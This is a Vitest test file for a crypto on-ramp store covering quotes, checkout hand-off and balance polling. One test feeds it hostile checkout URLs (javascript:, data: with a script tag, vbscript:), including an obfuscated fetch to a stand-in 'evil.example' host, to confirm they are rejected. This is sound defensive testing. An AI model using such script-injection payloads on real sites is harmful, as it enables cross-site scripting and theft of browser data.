import fc from 'fast-check';
import { observable, observableRef } from 'mobx';
import { describe, expect, it } from 'vitest';
import type { Network, OnrampQuoteRequest } from '../../../ports/index.js';
import { amountText, isCatalogueText } from '../../../testkits/arbitraries/amounts.js';
import { flushMicrotasks, ManualClock } from '../../../testkits/ManualClock.js';
import { httpFailure, MemoryDataService } from '../../../testkits/MemoryDataService.js';
import { MemoryLogger } from '../../../testkits/MemoryLogger.js';
import { DEVNET, evmNetwork } from '../../../testkits/networks.js';
import type { AnalyticsEvent } from '../../kernel/analytics/index.js';
import { ONRAMP_PENDING_TIMEOUT_MS, ONRAMP_POLL_INTERVAL_MS, ONRAMP_QUOTE_DEBOUNCE_MS } from './constants.js';
import { createOnrampStore } from './createOnrampStore.js';
import { SANDBOX_OPTIONS } from './testFixtures.js';

const DEVNET_B = evmNetwork(31338, 'Latch Devnet B');

import type { OnrampAccountSource, OnrampBalanceQuery } from './types.js';

const USER = '0x00000000000000000000000000000000000000aa';
const RETURN_URL = 'https://app.example/shop';
const SANDBOX_URL = 'http://127.0.0.1:8787/sandbox/onramp/checkout?partnerUserId=u';

/** The sandbox rule (2 % by card, 1 % by bank, 0.20 network fee), with the token bought 1:1. */
const sandboxQuote = (request: OnrampQuoteRequest) => {
  const cents = BigInt(request.amount.replace('.', ''));
  const fee = (cents * (request.paymentMethod === 'card' ? 200n : 100n) + 9_999n) / 10_000n;
  const subtotal = cents - fee - 20n;
  const money = (value: bigint) => ({
    amount: `${value / 100n}.${(value % 100n).toString().padStart(2, '0')}`,
    currency: request.paymentCurrency,
  });
  return {
    coinbaseFee: money(fee),
    networkFee: money(20n),
    paymentSubtotal: money(subtotal),
    paymentTotal: money(cents),
    purchaseAmount: { amount: money(subtotal).amount, currency: request.purchaseCurrency },
    quoteId: `q-${request.amount}`,
  };
};

const setup = (options: { address?: string | undefined; network?: Network } = {}) => {
  const clock = new ManualClock();
  const data = new MemoryDataService({ clock });
  data.onrampOptions = SANDBOX_OPTIONS;
  data.quoteOnramp = sandboxQuote;
  data.onrampUrl = () => SANDBOX_URL;
  const account = observable<{ -readonly [K in keyof OnrampAccountSource]: OnrampAccountSource[K] }>(
    { activeNetwork: options.network ?? DEVNET, address: 'address' in options ? options.address : USER },
    { activeNetwork: observableRef },
  );
  /** Balances by token id; undefined: unreadable. */
  const balances = new Map<string, string | undefined>([
    ['ETH', '1'],
    ['USDC', '5'],
  ]);
  const reads: OnrampBalanceQuery[] = [];
  const events: AnalyticsEvent[] = [];
  const purchased = { count: 0 };
  const store = createOnrampStore({
    account,
    onrampApi: data.onramp,
    readBalance: async (query) => {
      reads.push(query);
      return balances.get(query.token.id);
    },
    scheduler: clock,
    logger: new MemoryLogger(),
    onPurchased: () => {
      purchased.count++;
    },
    track: (event) => events.push(event),
  });
  /** Opens the view and fills the form: USDC, 50 USD by card, quoted. */
  const quoted = async (amount = '50') => {
    await store.open();
    store.setPurchaseToken('USDC');
    store.setAmount(amount);
    await clock.advanceAsync(ONRAMP_QUOTE_DEBOUNCE_MS);
  };
  return { clock, data, account, balances, reads, events, purchased, store, quoted };
};

const names = (events: readonly AnalyticsEvent[]) => events.map((event) => event.event);

describe('OnrampStore options', () => {
  it("loads the service's options and picks USD, card and the first token of the network", async () => {
    const { store, events } = setup();
    expect(store.optionsStatus).toBe('idle');
    const loading = store.open();
    expect(store.optionsStatus).toBe('loading');
    expect((await loading)._unsafeUnwrap()).toEqual(SANDBOX_OPTIONS);
    expect(store.optionsStatus).toBe('ready');
    expect(store.optionsSource).toBe('service');
    expect(store.purchaseTokens.map((token) => token.symbol)).toEqual(['ETH', 'USDC']);
    expect(store.purchaseToken?.symbol).toBe('ETH');
    expect(store.paymentCurrencies).toEqual(['USD', 'EUR']);
    expect(store.paymentCurrency).toBe('USD');
    expect(store.paymentMethods.map((method) => [method.id, method.label, method.min, method.max])).toEqual([
      ['card', 'card', '10.00', '7500.00'],
      ['ach_bank_account', 'bank account', '10.00', '25000.00'],
    ]);
    expect(store.paymentMethod?.id).toBe('card');
    expect(store.providers.map((provider) => provider.id)).toEqual(['sandbox', 'coinbase']);
    expect(store.provider?.id).toBe('sandbox');
    expect(events).toEqual([{ event: 'SELECT_BUY_CRYPTO', properties: { isSmartAccount: false } }]);
  });

  it('offers only the providers the data service runs (no Coinbase where only the sandbox can complete)', async () => {
    const { store, data } = setup();
    data.onrampOptions = { ...SANDBOX_OPTIONS, providers: ['sandbox', 'unknown-provider'] };
    await store.open();
    expect(store.providers.map((provider) => provider.id)).toEqual(['sandbox']);
    store.setProvider('coinbase');
    expect(store.provider?.id).toBe('sandbox');
  });

  it('follows the active network and asks the service only once it answered', async () => {
    const { store, account, data } = setup();
    await store.open();
    account.activeNetwork = DEVNET_B;
    expect(store.purchaseTokens.map((token) => token.network.name)).toEqual(['devnet-31338']);
    await store.open();
    expect(data.callsOf('onramp.getOptions')).toHaveLength(1);
  });

  it('falls back to built-in options when the options fail, says so, and asks again next time', async () => {
    const { store, data, events } = setup();
    data.fail('onramp.getOptions', httpFailure(503), 1);
    await store.open();
    expect(store.optionsSource).toBe('fallback');
    expect(store.purchaseTokens.map((token) => [token.symbol, token.network.name])).toEqual([
      ['ETH', 'devnet-31337'],
    ]);
    expect(store.paymentCurrencies).toEqual(['USD', 'EUR']);
    expect(store.paymentMethods.map((method) => method.max)).toEqual(['7500.00', '25000.00']);
    expect(names(events)).toEqual(['SELECT_BUY_CRYPTO', 'ONRAMP_OPTIONS_FALLBACK']);
    await store.open();
    expect(store.optionsSource).toBe('service');
  });

  it('falls back when the answer has no option lists', async () => {
    const { store, data } = setup();
    data.onrampOptions = { purchaseCurrencies: 'none' } as never;
    await store.open();
    expect(store.optionsSource).toBe('fallback');
  });
});

describe('OnrampStore quote', () => {
  it('asks one quote once typing pauses, for the picked token, currency, method and network', async () => {
    const { store, data, clock } = setup();
    await store.open();
    store.setPurchaseToken('USDC');
    store.setAmount('5');
    store.setAmount('50');
    expect(store.status).toBe('quoting');
    await clock.advanceAsync(ONRAMP_QUOTE_DEBOUNCE_MS - 1);
    expect(data.callsOf('onramp.getQuote')).toEqual([]);
    await clock.advanceAsync(1);
    expect(data.callsOf('onramp.getQuote')).toEqual([
      {
        purchaseCurrency: 'USDC',
        paymentCurrency: 'USD',
        amount: '50.00',
        network: 'devnet-31337',
        paymentMethod: 'card',
      },
    ]);
    expect(store.status).toBe('ready');
    expect(store.canHandOff).toBe(true);
    expect(store.quote).toEqual({
      placeholder: false,
      quoteId: 'q-50.00',
      fee: { amount: '1.00', currency: 'USD' },
      networkFee: { amount: '0.20', currency: 'USD' },
      subtotal: { amount: '48.80', currency: 'USD' },
      total: { amount: '50.00', currency: 'USD' },
      receive: { amount: '48.80', currency: 'USDC' },
    });
  });

  it('asks again when the method or currency changes, and drops the answer of superseded input', async () => {
    const { store, data, clock, quoted } = setup();
    await quoted();
    const release = data.hold('onramp.getQuote');
    store.setPaymentMethod('ach_bank_account');
    await clock.advanceAsync(ONRAMP_QUOTE_DEBOUNCE_MS);
    store.setPaymentCurrency('EUR');
    release();
    await flushMicrotasks();
    expect(store.status).toBe('quoting');
    expect(store.quote).toBeUndefined();
    await clock.advanceAsync(ONRAMP_QUOTE_DEBOUNCE_MS);
    expect(data.callsOf('onramp.getQuote').slice(1)).toMatchObject([
      { paymentMethod: 'ach_bank_account', paymentCurrency: 'USD' },
      { paymentMethod: 'ach_bank_account', paymentCurrency: 'EUR' },
    ]);
    expect(store.quote?.total).toEqual({ amount: '50.00', currency: 'EUR' });
    expect(store.quote?.placeholder === false && store.quote.fee.amount).toBe('0.50');
  });

  it('leaving the view aborts the options load and the quote in flight; nothing is left loading', async () => {
    const { store, data, clock, events } = setup();
    const releaseOptions = data.hold('onramp.getOptions');
    const loading = store.open();
    store.leave();
    releaseOptions();
    await loading;
    expect(data.aborted).toEqual(['onramp.getOptions']);
    expect([store.optionsStatus, store.optionsSource, names(events)]).toEqual([
      'idle',
      undefined,
      ['SELECT_BUY_CRYPTO'],
    ]);
    await store.open();
    store.setAmount('50');
    const releaseQuote = data.hold('onramp.getQuote');
    await clock.advanceAsync(ONRAMP_QUOTE_DEBOUNCE_MS);
    expect(store.status).toBe('quoting');
    store.leave();
    releaseQuote();
    await flushMicrotasks();
    expect(data.aborted).toEqual(['onramp.getOptions', 'onramp.getQuote']);
    expect([store.status, store.quote, store.amount]).toEqual(['editing', undefined, '']);
  });

  it('leaving the view keeps watching a purchase handed out', async () => {
    const { store, quoted } = setup();
    await quoted();
    (await store.handOff({ returnUrl: 'https://host.example/' }))._unsafeUnwrap();
    store.leave();
    expect([store.status, store.purchase?.token.symbol]).toEqual(['pending', 'USDC']);
  });

  it('refuses an amount over the card limit with the limit shown, and asks nothing', async () => {
    const { store, data, clock } = setup();
    await store.open();
    store.setAmount('7500.01');
    expect(store.amountError?.code).toBe('ONRAMP_AMOUNT_ABOVE_MAXIMUM');
    expect(store.amountError?.message).toBe('The maximum purchase by card is 7,500.00 USD');
    expect(store.status).toBe('editing');
    store.setPaymentCurrency('EUR');
    expect(store.amountError?.message).toBe('The maximum purchase by card is 7,500.00 EUR');
    await clock.advanceAsync(ONRAMP_QUOTE_DEBOUNCE_MS);
    expect(data.callsOf('onramp.getQuote')).toEqual([]);
    store.setPaymentMethod('ach_bank_account');
    expect(store.amountError).toBeUndefined();
    expect(store.status).toBe('quoting');
  });

  it('refuses amounts under the minimum and amounts with more than two decimals', async () => {
    const { store } = setup();
    await store.open();
    store.setAmount('9.99');
    expect(store.amountError?.message).toBe('The minimum purchase by card is 10.00 USD');
    store.setAmount('50.001');
    expect(store.amountError?.message).toBe('Amount can have at most 2 decimals');
    store.setAmount('1e5abc');
    expect([store.amount, store.amountError?.message]).toEqual([
      '50.001',
      'Amount can have at most 2 decimals',
    ]);
    store.setAmount('  ');
    expect(store.amountError).toBeUndefined();
    expect(store.status).toBe('editing');
    store.setAmount('.5');
    expect(store.amountError?.message).toBe('The minimum purchase by card is 10.00 USD');
  });

  it('gives any typed amount a quote request or a catalogue error, never a raw parser text', async () => {
    const { store, clock, data } = setup();
    await store.open();
    fc.assert(
      fc.property(amountText(), (amount) => {
        store.setAmount(amount);
        const error = store.amountError;
        if (error !== undefined) expect(isCatalogueText(error.message)).toBe(true);
        else expect(['editing', 'quoting']).toContain(store.status);
      }),
      { numRuns: 200 },
    );
    store.setAmount('50');
    await clock.advanceAsync(ONRAMP_QUOTE_DEBOUNCE_MS);
    expect(data.callsOf('onramp.getQuote').at(-1)).toMatchObject({ amount: '50.00' });
  });

  it('shows a clearly marked placeholder quote when the quote fails (SPEC §8)', async () => {
    const { store, data, events, quoted } = setup();
    data.fail('onramp.getQuote', httpFailure(502));
    await quoted();
    expect(store.status).toBe('ready');
    expect(store.quote).toMatchObject({
      placeholder: true,
      quoteId: 'mocked-quote-id',
      total: { amount: '50.00', currency: 'USD' },
      receiveCurrency: 'USDC',
      reason: { code: 'RPC_HTTP_ERROR' },
    });
    expect(names(events)).toContain('ONRAMP_QUOTE_FALLBACK');
  });

  it('shows a placeholder for an unusable answer too', async () => {
    const { store, data, quoted } = setup();
    data.quoteOnramp = () => ({ quoteId: 'q' }) as never;
    await quoted();
    expect(store.quote).toMatchObject({ placeholder: true, reason: { code: 'QUERY_DATA_UNDEFINED' } });
  });

  it("shows the service's refusal of the input instead of a placeholder", async () => {
    const { store, data, quoted } = setup();
    data.fail('onramp.getQuote', httpFailure(400, '/v1/onramp/quote', 'The amount does not cover the fees'));
    await quoted();
    expect(store.status).toBe('editing');
    expect(store.quote).toBeUndefined();
    expect(store.error?.message).toBe('The amount does not cover the fees');
    expect(store.canHandOff).toBe(false);
  });
});

describe('OnrampStore hand-off and pending (J13)', () => {
  it('buys 50 USD of the stablecoin by card: hands out the URL, waits, succeeds when the balance rises', async () => {
    const { store, data, clock, balances, events, purchased, reads, quoted } = setup();
    await quoted();
    const handOff = store.handOff({ returnUrl: RETURN_URL });
    expect(store.status).toBe('opening');
    expect((await handOff)._unsafeUnwrap()).toEqual({ url: SANDBOX_URL, provider: 'sandbox' });
    expect(data.callsOf('onramp.generateUrl')).toEqual([
      {
        destinationWallets: [{ address: USER, blockchains: ['devnet-31337'], assets: ['USDC'] }],
        partnerUserId: USER,
        defaultNetwork: 'devnet-31337',
        presetFiatAmount: 50,
        defaultExperience: 'buy',
        redirectUrl: RETURN_URL,
        paymentCurrency: 'USD',
        paymentMethod: 'card',
      },
    ]);
    expect(store.status).toBe('pending');
    expect(store.checkout).toEqual({ url: SANDBOX_URL, provider: 'sandbox' });
    expect(store.purchase).toMatchObject({
      address: USER,
      total: { amount: '50.00', currency: 'USD' },
      expected: '48.80',
      startBalance: '5',
      received: undefined,
    });
    expect(reads[0]).toMatchObject({ address: USER, network: DEVNET, token: { id: 'USDC' } });
    expect(events.at(-1)).toEqual({
      event: 'ONRAMP_URL_OPENED',
      properties: { provider: 'sandbox', network: 'eip155:31337' },
    });
    await clock.advanceAsync(ONRAMP_POLL_INTERVAL_MS);
    expect(store.status).toBe('pending');
    balances.set('USDC', '53.8');
    await clock.advanceAsync(ONRAMP_POLL_INTERVAL_MS);
    expect(store.status).toBe('success');
    expect(store.purchase?.received).toBe('48.8');
    expect(purchased.count).toBe(1);
    expect(clock.pending).toBe(0);
  });

  it("buys USDC for a Solana account: the sandbox's cluster entry, the base58 address as destination", async () => {
    const cluster = 'solana:LatchDevnetLatchDevnetLatchDevne';
    const mint = 'Es9vMFrzaCERmJfrF4H2FYD4KCoNkY11McCe8BenwNYB';
    const owner = '9WzDXwBbmkg8ZTbNMqUxvQRAyrZzDsGYdLVL9zYtAWWM';
    const network: Network = {
      id: cluster.slice('solana:'.length),
      name: 'Latch Solana Devnet',
      chainNamespace: 'solana',
      caipNetworkId: cluster,
      nativeCurrency: { name: 'Solana', symbol: 'SOL', decimals: 9 },
      rpcUrls: { default: { http: ['http://127.0.0.1:8899'] } },
    };
    const entry = { name: cluster, display_name: 'Latch Solana Devnet', chain_id: network.id as string };
    const { store, data, clock, balances, reads, quoted } = setup({ network, address: owner });
    data.onrampOptions = {
      ...SANDBOX_OPTIONS,
      purchaseCurrencies: SANDBOX_OPTIONS.purchaseCurrencies.map((currency) =>
        currency.id === 'USDC'
          ? { ...currency, networks: [...currency.networks, { ...entry, contract_address: mint }] }
          : currency,
      ),
    };
    await quoted();
    expect(store.purchaseTokens.map((token) => [token.id, token.native, token.network.name])).toEqual([
      ['USDC', false, cluster],
    ]);
    expect(data.callsOf('onramp.getQuote')[0]).toMatchObject({ purchaseCurrency: 'USDC', network: cluster });
    await store.handOff({ returnUrl: RETURN_URL });
    expect(data.callsOf('onramp.generateUrl')[0]).toMatchObject({
      destinationWallets: [{ address: owner, blockchains: [cluster], assets: ['USDC'] }],
      partnerUserId: owner,
      defaultNetwork: cluster,
    });
    expect(reads[0]).toMatchObject({
      address: owner,
      network,
      token: { network: { contract_address: mint } },
    });
    balances.set('USDC', '53.8');
    await clock.advanceAsync(ONRAMP_POLL_INTERVAL_MS);
    expect(store.status).toBe('success');
  });

  it('ends in failed with the catalogue timeout when the funds never arrive', async () => {
    const { store, clock, quoted } = setup();
    await quoted();
    await store.handOff({ returnUrl: RETURN_URL });
    await clock.advanceAsync(ONRAMP_PENDING_TIMEOUT_MS);
    expect(store.status).toBe('failed');
    expect(store.error?.code).toBe('ONRAMP_PURCHASE_TIMEOUT');
    expect(clock.pending).toBe(0);
    store.cancel();
    expect(store.status).toBe('quoting');
    expect(store.error).toBeUndefined();
    expect(store.purchase).toBeUndefined();
  });

  it('leaves pending on cancel: the watch stops, a later rise changes nothing', async () => {
    const { store, clock, balances, purchased, quoted } = setup();
    await quoted();
    await store.handOff({ returnUrl: RETURN_URL });
    store.cancel();
    expect(store.status).toBe('quoting');
    expect(store.checkout).toBeUndefined();
    balances.set('USDC', '100');
    await clock.advanceAsync(ONRAMP_QUOTE_DEBOUNCE_MS + ONRAMP_POLL_INTERVAL_MS);
    expect(store.status).toBe('ready');
    expect(purchased.count).toBe(0);
  });

  it('drops a hand-off answer that comes after cancel', async () => {
    const { store, data, clock, quoted } = setup();
    await quoted();
    const release = data.hold('onramp.generateUrl');
    const handOff = store.handOff({ returnUrl: RETURN_URL });
    await flushMicrotasks();
    store.cancel();
    release();
    expect((await handOff)._unsafeUnwrapErr().code).toBe('REQUEST_ABORTED');
    await clock.advanceAsync(ONRAMP_QUOTE_DEBOUNCE_MS);
    expect(store.status).toBe('ready');
    expect(store.checkout).toBeUndefined();
  });

  it('takes the first reading as the start when the balance could not be read at the hand-off', async () => {
    const { store, clock, balances, quoted } = setup();
    await quoted();
    balances.set('USDC', undefined);
    await store.handOff({ returnUrl: RETURN_URL });
    expect(store.purchase?.startBalance).toBeUndefined();
    await clock.advanceAsync(ONRAMP_POLL_INTERVAL_MS);
    expect(store.status).toBe('pending');
    balances.set('USDC', '0');
    await clock.advanceAsync(ONRAMP_POLL_INTERVAL_MS);
    expect(store.purchase?.startBalance).toBe('0');
    balances.set('USDC', '0.000001');
    await clock.advanceAsync(ONRAMP_POLL_INTERVAL_MS);
    expect(store.status).toBe('success');
    expect(store.purchase?.received).toBe('0.000001');
  });

  it('hands off with a placeholder quote: any rise counts', async () => {
    const { store, data, clock, balances, quoted } = setup();
    data.fail('onramp.getQuote', httpFailure(503));
    await quoted();
    await store.handOff({ returnUrl: RETURN_URL });
    expect(store.purchase?.expected).toBeUndefined();
    balances.set('USDC', '6');
    await clock.advanceAsync(ONRAMP_POLL_INTERVAL_MS);
    expect(store.status).toBe('success');
  });

  it('refuses a URL of another provider than the picked one (the service runs the other)', async () => {
    const { store, data, events, quoted } = setup();
    await quoted();
    store.setProvider('coinbase');
    expect(events.at(-1)).toEqual({ event: 'SELECT_BUY_PROVIDER', properties: { provider: 'coinbase' } });
    const error = (await store.handOff({ returnUrl: RETURN_URL }))._unsafeUnwrapErr();
    expect(error.code).toBe('ONRAMP_PROVIDER_UNAVAILABLE');
    expect(error.message).toBe('Coinbase is not available here');
    expect(store.status).toBe('ready');
    expect(store.error).toBe(error);
    store.setProvider('sandbox');
    expect(store.error).toBeUndefined();
    data.onrampUrl = () => 'https://pay.coinbase.com/buy/select-asset?appId=a';
    expect((await store.handOff({ returnUrl: RETURN_URL }))._unsafeUnwrapErr().code).toBe(
      'ONRAMP_PROVIDER_UNAVAILABLE',
    );
    store.setProvider('coinbase');
    expect((await store.handOff({ returnUrl: RETURN_URL }))._unsafeUnwrap().provider).toBe('coinbase');
  });

  it('refuses a checkout URL that is not http(s) (javascript:, data:): URL_UNSAFE, back to ready, nothing handed out', async () => {
    for (const hostile of [
      'javascript:alert(document.domain)//sandbox/onramp/checkout',
      ' JaVa\tScRiPt:fetch(`//evil.example/`+localStorage.length)',
      'data:text/html,<script>alert(1)</script>',
      'vbscript:msgbox(1)',
    ]) {
      const { store, data, events, quoted } = setup();
      await quoted();
      data.onrampUrl = () => hostile;
      const error = (await store.handOff({ returnUrl: RETURN_URL }))._unsafeUnwrapErr();
      expect(error.code).toBe('URL_UNSAFE');
      expect(error.message).toBe('This link cannot be opened: it is not a safe web or wallet address');
      expect(store.status).toBe('ready');
      expect(store.error).toBe(error);
      expect(store.checkout).toBeUndefined();
      expect(names(events)).not.toContain('ONRAMP_URL_OPENED');
    }
  });

  it('sends the provider the host page without its query or fragment as the return URL', async () => {
    const { store, data, quoted } = setup();
    await quoted();
    await store.handOff({ returnUrl: 'https://shop.example/buy?session=s3cr3t#access_token=t0k' });
    expect(data.callsOf('onramp.generateUrl')[0]).toMatchObject({ redirectUrl: 'https://shop.example/buy' });
  });

  it('goes back to ready with the error when the URL cannot be made', async () => {
    const { store, data, quoted } = setup();
    await quoted();
    data.fail('onramp.generateUrl', httpFailure(400, '/v1/generators/onrampurl', 'Invalid redirect URL'), 1);
    const error = (await store.handOff({ returnUrl: 'javascript:alert(1)' }))._unsafeUnwrapErr();
    expect(error.message).toBe('Invalid redirect URL');
    expect(store.status).toBe('ready');
    data.onrampUrl = () => '';
    expect((await store.handOff({ returnUrl: RETURN_URL }))._unsafeUnwrapErr().code).toBe(
      'QUERY_DATA_UNDEFINED',
    );
  });

  it('needs a ready quote and a connected account', async () => {
    const { store } = setup();
    await store.open();
    expect((await store.handOff({ returnUrl: RETURN_URL }))._unsafeUnwrapErr().code).toBe(
      'INTERNAL_SDK_ERROR',
    );
    const disconnected = setup({ address: undefined });
    await disconnected.quoted();
    expect((await disconnected.store.handOff({ returnUrl: RETURN_URL }))._unsafeUnwrapErr().code).toBe(
      'ACCOUNT_NOT_FOUND',
    );
  });

  it('keeps the form while pending and a purchase under way when the view opens again', async () => {
    const { store, quoted } = setup();
    await quoted();
    await store.handOff({ returnUrl: RETURN_URL });
    store.setAmount('60');
    store.setPurchaseToken('ETH');
    store.setProvider('coinbase');
    expect(store.amount).toBe('50');
    expect(store.purchaseToken?.id).toBe('USDC');
    expect(store.provider?.id).toBe('sandbox');
    await store.open();
    expect(store.status).toBe('pending');
    store.reset();
    expect(store.status).toBe('editing');
    expect(store.amount).toBe('');
    expect(store.purchase).toBeUndefined();
  });

  it('stops every timer on dispose', async () => {
    const { store, clock, quoted } = setup();
    await quoted();
    await store.handOff({ returnUrl: RETURN_URL });
    expect(clock.pending).toBeGreaterThan(0);
    store.dispose();
    expect(clock.pending).toBe(0);
  });
});
